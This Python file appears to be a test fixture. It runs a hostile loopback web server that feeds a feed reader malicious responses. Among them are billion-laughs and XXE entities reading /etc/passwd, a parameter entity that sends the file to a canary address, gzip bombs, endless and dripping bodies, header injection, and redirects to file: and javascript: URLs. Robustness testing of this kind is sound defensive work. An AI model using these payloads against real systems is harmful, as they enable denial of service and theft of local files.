"""A web server that means harm, in a process of its own: ``python hostile_server.py`` prints its port and answers until its input ends.

Each attack has a path of its own, and is asked for at a loopback address of its own, so that they are all polled at once.
"""

from __future__ import annotations

import asyncio
import gzip
import os
import subprocess
import sys
import zlib
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from itertools import repeat
from pathlib import Path

Piece = bytes | float
"""What is sent next, or a pause in seconds."""

MEGABYTE = 1024**2
# Just below what an answer may have.
LARGE = 2 * MEGABYTE
# What no answer of ours ever holds, so that a story that shows it was read from this machine.
_SECRET_FILE = "/etc/passwd"  # noqa: S105


@dataclass(frozen=True, slots=True)
class Attack:
    """``answer`` makes the pieces of the raw answer, given the canary's address; ``words`` stand in the failure that it is recorded
    as, None if it is read without harm. One that ``hogs`` takes a sandbox's child all the time or memory that it may have.
    """

    answer: Callable[[str], Iterable[Piece]]
    words: str | None = None
    hogs: bool = False


def rss(*items: bytes, head: bytes = b"", before: bytes = b"", opening: bytes = b"<rss version='2.0'>") -> bytes:
    return b"<?xml version='1.0'?>%b%b<channel><title>T</title>%b%b</channel></rss>" % (before, opening, head, b"".join(items))


def item(number: int, text: bytes = b"Text.", more: bytes = b"", title: bytes = b"") -> bytes:
    named = title or b"Harmless %d" % number
    return b"<item><guid>%d</guid><title>%b</title><description>%b</description>%b</item>" % (number, named, text, more)


def markup(text: bytes) -> bytes:
    return rss(item(1, b"<![CDATA[%b]]>" % text))


def ok(body: bytes, *headers: bytes, length: int | None = None, kind: bytes = b"application/rss+xml") -> bytes:
    told = b"\r\n".join([b"Content-Type: " + kind, *headers, b"Content-Length: %d" % (len(body) if length is None else length)])
    return b"HTTP/1.1 200 OK\r\nConnection: close\r\n%b\r\n\r\n%b" % (told, body)


def doc(body: Callable[[], bytes], words: str | None = None, *, hogs: bool = False, kind: bytes = b"application/rss+xml") -> Attack:
    return Attack(lambda _: [ok(body(), kind=kind)], words, hogs)


def raw(*pieces: Piece, words: str | None = None) -> Attack:
    return Attack(lambda _: pieces, words)


def headed(*headers: bytes, words: str | None = None) -> Attack:
    """A good feed under these headers."""
    return raw(ok(rss(item(1)), *headers), words=words)


def moved(*targets: bytes, words: str) -> Attack:
    return raw(*(b"HTTP/1.1 302 Found\r\nLocation: %b\r\nContent-Length: 0\r\n\r\n" % target for target in targets), words=words)


def endless(head: bytes, piece: bytes, pause: float = 0) -> Callable[[str], Iterator[Piece]]:
    def pieces(_: str) -> Iterator[Piece]:
        yield head
        while True:
            yield piece
            yield pause

    return pieces


def bomb(pack: Callable[[bytes], bytes], coding: bytes) -> Callable[[str], Iterator[Piece]]:
    return lambda _: iter([ok(pack(rss(item(1, b" " * 100 * MEGABYTE))), b"Content-Encoding: " + coding)])


def gzipped(body: bytes) -> bytes:
    return gzip.compress(body, 1, mtime=0)


def attributes(number: int) -> bytes:
    return b" ".join(b"a%d='1'" % each for each in range(number))


def laughs(depth: int = 9) -> bytes:
    told = b"".join(b"<!ENTITY e%d '%b'>" % (each, b"&e%d;" % (each - 1) * 10) for each in range(1, depth))
    return b"<!DOCTYPE rss [<!ENTITY e0 'laugh laugh'>%b]>" % told


def outside(declared: bytes, used: bytes = b"&x;") -> Attack:
    """A document that has something read from elsewhere: CANARY is a web address, FILE a file of this machine."""

    def answer(canary: str) -> Iterator[Piece]:
        declares = declared.replace(b"CANARY", canary.encode()).replace(b"FILE", _SECRET_FILE.encode())
        uses = used.replace(b"CANARY", canary.encode()).replace(b"FILE", _SECRET_FILE.encode())
        yield ok(rss(item(1, b"Before %b after." % uses), before=declares))

    return Attack(answer)


_CHUNKED = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
_XINCLUDE = b"xmlns:xi='http://www.w3.org/2001/XInclude'"
_FEED_OF_JSON = b'{"version": "https://jsonfeed.org/version/1.1", "title": "T", "items": [%b]}'
_SVG = b"<p>Before <svg><image href='CANARY'/></svg><img src='CANARY'> after.</p>"


def json_feed(items: bytes) -> bytes:
    return _FEED_OF_JSON % items


ATTACKS: dict[str, Attack] = {
    # What feedparser alone would take seconds to minutes for.
    "16,000 attributes on one element": doc(lambda: rss(item(1), opening=b"<rss version='2.0' %b>" % attributes(16_000)), hogs=True),
    "100,000 attributes on one entry": doc(
        lambda: rss(b"<item %b><title>T</title></item>" % attributes(100_000)), "not be read", hogs=True
    ),
    "100,000 attributes in the markup": doc(lambda: markup(b"<p %b>Text.</p>" % attributes(100_000))),
    "an author of dots": doc(lambda: rss(item(1, more=b"<author>%b</author>" % (b"a." * 16_000))), hogs=True),
    "200,000 nested elements": doc(lambda: rss(b"<a>" * 200_000 + b"x" + b"</a>" * 200_000), hogs=True),
    "200,000 nested elements in the markup": doc(lambda: markup(b"<div>" * 200_000 + b"x")),
    "50,000 entries": doc(lambda: rss(*map(item, range(50_000))), hogs=True),
    "tiny entries": doc(lambda: rss(*(b"<item>%d</item>" % number for number in range(LARGE // 20))), hogs=True),
    # Sizes.
    "a long title": doc(lambda: rss(item(1, title=b"word " * (LARGE // 5)))),
    "a long text": doc(lambda: rss(item(1, b"word " * (LARGE // 5)))),
    "long paragraphs": doc(lambda: markup((b"<p>" + b"word " * (LARGE // 25_000)) * 4900), hogs=True),
    "a long guid": doc(lambda: rss(b"<item><guid>%b</guid><title>Harmless</title></item>" % (b"x" * LARGE))),
    "a long link": doc(lambda: rss(item(1, more=b"<link>http://a.example/%b</link>" % (b"x&amp;" * (LARGE // 6))))),
    "an attribute of 1 MB": doc(lambda: markup(b"<p title='%b'>Text.</p>" % (b"x" * MEGABYTE))),
    "nothing but NULs": doc(lambda: b"\0" * LARGE, "empty"),
    "nothing but less-than signs": doc(lambda: b"<" * LARGE, "", hogs=True),
    "entries that never end": doc(lambda: b"<item>" * (LARGE // 6), "", hogs=True),
    # Bodies.
    "100 MB": Attack(lambda _: [ok(b"", length=100 * MEGABYTE), *repeat(b" " * MEGABYTE, 100)], "longer than"),
    "an endless body": Attack(endless(b"HTTP/1.1 200 OK\r\n\r\n<rss>", b"<a>" * 20_000), "longer than"),
    "endless chunks": Attack(endless(_CHUNKED, b"ffff\r\n%b\r\n" % (b"a" * 0xFFFF)), "longer than"),
    "endless tiny chunks": Attack(endless(_CHUNKED, b"1\r\na\r\n" * 5000, 0.01), ""),
    "a chunk that never begins": Attack(endless(_CHUNKED + b"1", b";" + b"a" * 20_000), "no complete answer"),
    "a dripping body": Attack(endless(b"HTTP/1.1 200 OK\r\n\r\n<rss>", b"a", 0.1), "no complete answer"),
    "a gzip bomb": Attack(bomb(gzipped, b"gzip"), "longer than"),
    "a deflate bomb": Attack(bomb(lambda body: zlib.compress(body, 1), b"deflate"), "longer than"),
    "gzip in gzip": Attack(bomb(lambda body: gzipped(gzipped(body)), b"gzip"), "no feed"),
    "gzip in gzip, as it says": Attack(bomb(lambda body: gzipped(gzipped(body)), b"gzip, gzip"), "no feed"),
    "gzip that ends early": raw(ok(gzipped(b"<rss>" + b"x" * MEGABYTE)[:200], b"Content-Encoding: gzip")),
    "a coding nobody asked for": headed(b"Content-Encoding: br", words="connection failed"),
    "another coding nobody asked for": headed(b"Content-Encoding: zstd", words="connection failed"),
    "more promised than sent": raw(ok(rss(item(1)), length=100_000), words="connection failed"),
    "less promised than sent": raw(ok(rss(item(1)), length=20), words=""),
    "two lengths": headed(b"Content-Length: 5", words="connection failed"),
    "length and chunks": headed(b"Transfer-Encoding: chunked", words="connection failed"),
    "a length below nothing": raw(ok(rss(item(1)), length=-5), words="connection failed"),
    # Heads.
    "no answer": Attack(endless(b"", b"", 0.5), "no complete answer"),
    "no answer at all": raw(words="connection failed"),
    "no head": raw(rss(item(1)), words="connection failed"),
    "noise": raw(bytes(range(256)) * 10, words="connection failed"),
    "a status of letters": raw(b"HTTP/1.1 OK\r\n\r\n", words="connection failed"),
    "a status of a thousand": raw(b"HTTP/1.1 999 \xff\x1b[31m\r\n\r\n", words="999"),
    "endless early hints": Attack(endless(b"", b"HTTP/1.1 103 Early Hints\r\nX: y\r\n\r\n" * 500, 0.01), "no complete answer"),
    "an endless header": Attack(endless(b"HTTP/1.1 200 OK\r\nX: ", b"a" * 65_536), "connection failed"),
    "endless headers": Attack(endless(b"HTTP/1.1 200 OK\r\n", b"X: y\r\n" * 5000), "connection failed"),
    "dripping headers": Attack(endless(b"HTTP/1.1 200 OK\r\n", b"X", 0.1), "no complete answer"),
    "10,000 headers": headed(*(b"X-%d: y" % number for number in range(10_000)), words="connection failed"),
    "a header of 1 MB": headed(b"X: " + b"a" * MEGABYTE, words="connection failed"),
    "an ETag of no text": headed(b'ETag: "\xff\xfe"', b"Last-Modified: \xff\xfe"),
    "an ETag of control characters": headed(b'ETag: "\x1b[31m\x07"'),
    "an ETag with a line of its own": headed(b'ETag: "a\nX-Injected: b"'),
    "an ETag with NUL": headed(b'ETag: "a\0b"', words="connection failed"),
    "a kind of no text": raw(ok(rss(item(1)), kind=b"text/xml; charset=\xff\xfe")),
    "a charset that runs": raw(ok(rss(item(1)), kind=b"text/xml; charset=unicode_escape")),
    "fresh for ever": headed(b"Cache-Control: max-age=99999999999999999999", b"Age: -99999999999999999999"),
    "fresh until the end of time": headed(b"Expires: Fri, 31 Dec 9999 23:59:59 GMT", b"Date: Mon, 01 Jan 0001 00:00:00 GMT"),
    "a cookie": headed(b"Set-Cookie: id=1"),
    # Redirects; those to private addresses are tested apart.
    "a redirect to itself": moved(b"#", words="redirects"),
    "a redirect without a host": moved(b"http://user@/", words="connection failed"),
    "a redirect to a broken address": moved(b"http://[::1", words="connection failed"),
    "a redirect to an impossible port": moved(b"http://a.example:99999/", words="connection failed"),
    "a redirect to a name of 300 letters": moved(b"http://%b.example/" % (b"a" * 300), words="connection failed"),
    "a redirect to no text": moved(b"http://a\xff.example/\xff", words="connection failed"),
    "a redirect to a file": moved(b"file:///etc/passwd", words="not an http"),
    "a redirect to a script": moved(b"javascript:alert(1)", words="not an http"),
    "a redirect to data": moved(b"data:text/xml,<rss/>", words="not an http"),
    "a redirect to gopher": moved(b"gopher://127.0.0.1/", words="not an http"),
    # Entities, and whatever has something else read.
    "a thousand million laughs": doc(lambda: rss(item(1, b"&e8;"), before=laughs())),
    "quadratic laughs": doc(
        lambda: rss(item(1, b"&e0;" * 100_000), before=b"<!DOCTYPE rss [<!ENTITY e0 '%b'>]>" % (b"laugh" * 20_000)), hogs=True
    ),
    "laughs in an attribute": doc(lambda: rss(b"<item about='&e8;'><title>Harmless</title></item>", before=laughs())),
    "laughs in a circle": doc(lambda: rss(item(1, b"&a;"), before=b"<!DOCTYPE rss [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>")),
    "many entities": doc(
        lambda: rss(item(1), before=b"<!DOCTYPE rss [%b]>" % b"".join(b"<!ENTITY e%d 'x'>" % each for each in range(LARGE // 20))),
        hogs=True,
    ),
    "an entity from a file": outside(b"<!DOCTYPE rss [<!ENTITY x SYSTEM 'file://FILE'>]>"),
    "an entity from the web": outside(b"<!DOCTYPE rss [<!ENTITY x SYSTEM 'CANARY'>]>"),
    "a parameter entity": outside(b"<!DOCTYPE rss [<!ENTITY % p SYSTEM 'CANARY'>%p;]>", b""),
    "a parameter entity that sends a file": outside(
        b"<!DOCTYPE rss [<!ENTITY % f SYSTEM 'file://FILE'><!ENTITY % p \"<!ENTITY x SYSTEM 'CANARY?%f;'>\">%p;]>"
    ),
    "a document type from the web": outside(b"<!DOCTYPE rss SYSTEM 'CANARY'>", b""),
    "a public document type": outside(b"<!DOCTYPE rss PUBLIC '-//A//B' 'CANARY'>", b""),
    "a style sheet from the web": outside(b"<?xml-stylesheet type='text/xsl' href='CANARY'?>", b""),
    "an included file": outside(b"", b"<xi:include %b parse='text' href='file://FILE'/>" % _XINCLUDE),
    "an included page": outside(b"", b"<xi:include %b parse='text' href='CANARY'/>" % _XINCLUDE),
    "pictures": outside(b"", b"<![CDATA[%b]]>" % _SVG),
    # JSON.
    "nested JSON": doc(lambda: json_feed(b"[" * LARGE), "", kind=b"application/feed+json"),
    "nested JSON that is closed": doc(lambda: json_feed(b'{"id": %b%b}' % (b"[" * 900, b"]" * 900)), kind=b"application/feed+json"),
    "a long number": doc(lambda: json_feed(b'{"id": %b}' % (b"9" * LARGE)), "JSON"),
    "numbers beyond all": doc(lambda: json_feed(b'{"id": 1e400, "title": "Harmless"}, {"id": -1e400, "title": "Harmless"}')),
    "keys twice": doc(lambda: json_feed(b'{"id": 1, "id": "2", "title": "Harmful", "title": "Harmless"}')),
    "many keys": doc(lambda: json_feed(b"{%b}" % b",".join(b'"k%d":1' % number for number in range(LARGE // 20))), hogs=True),
    "JSON of empty things": doc(lambda: json_feed(b"{}," * (LARGE // 3) + b"{}"), hogs=True),
    "half characters": doc(lambda: json_feed(b'{"id": "\\ud800", "title": "Harmless\\udfff", "content_text": "\\ud83d \\u0000"}')),
    # Letters.
    "UTF-16 of odd length": raw(ok(b"\xff\xfe" + rss(item(1)).decode().encode("utf-16-le") + b"\0")),
    "UTF-16 that says UTF-8": raw(ok(rss(item(1)).decode().encode("utf-16"), kind=b"text/xml; charset=utf-8")),
    "UTF-7": raw(
        ok(
            rss(item(1, title=b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-")).replace(b"'1.0'", b"'1.0' encoding='utf-7'"),
            kind=b"text/xml; charset=utf-7",
        )
    ),
    "NULs and control characters": raw(ok(rss(item(1, bytes(range(32)) * 100 + b"\xef\xbf\xbe\xed\xa0\x80")))),
    "a feed that says it is a picture": raw(ok(rss(item(1)), kind=b"image/png")),
    "a picture that says it is a feed": raw(ok(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100), words=""),
    "a page that says it is a feed": raw(ok(b"<!DOCTYPE html><html><body><p>Text.</p></body></html>"), words="web page"),
    "a page of nothing but feeds": doc(
        lambda: b"<!DOCTYPE html>" + b"<link rel=alternate type='application/rss+xml' href='/%b'>" % (b"a" * 50) * (LARGE // 100), ""
    ),
}


def slug(name: str) -> str:
    return "".join(letter if letter.isalnum() else "-" for letter in name)


def host(number: int) -> str:
    """The loopback address at which the attack with this place is asked for."""
    return f"127.1.0.{number + 1}"


async def _serve(canary: str) -> None:
    by_path = {f"/{slug(name)}": attack for name, attack in ATTACKS.items()}

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
            for piece in by_path[head.split()[1].decode().partition("#")[0]].answer(canary):
                if isinstance(piece, bytes):
                    writer.write(piece)
                    await writer.drain()
                else:
                    await asyncio.sleep(piece)
        except (OSError, EOFError, KeyError, asyncio.LimitOverrunError):
            pass  # the client has left, or speaks of other things
        finally:
            writer.close()

    first = await asyncio.start_server(answer, host(0))
    port = first.sockets[0].getsockname()[1]
    others = await asyncio.start_server(answer, [host(number) for number in range(1, len(ATTACKS))], port)
    sys.stdout.write(f"{port}\n")
    sys.stdout.flush()
    await asyncio.to_thread(sys.stdin.read)
    first.close()
    others.close()


@contextmanager
def hostile_server(canary: str) -> Iterator[dict[str, str]]:
    """The addresses of all attacks by name; ``canary`` is the address of which documents want something read."""
    command = [sys.executable, str(Path(__file__)), canary]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
        assert process.stdin
        assert process.stdout
        port = int(process.stdout.readline())
        try:
            yield {name: f"http://{host(number)}:{port}/{slug(name)}" for number, name in enumerate(ATTACKS)}
        finally:
            process.stdin.close()
            process.kill()


if __name__ == "__main__":
    # Attackers have machines of their own.
    os.nice(10)
    asyncio.run(_serve(sys.argv[1]))
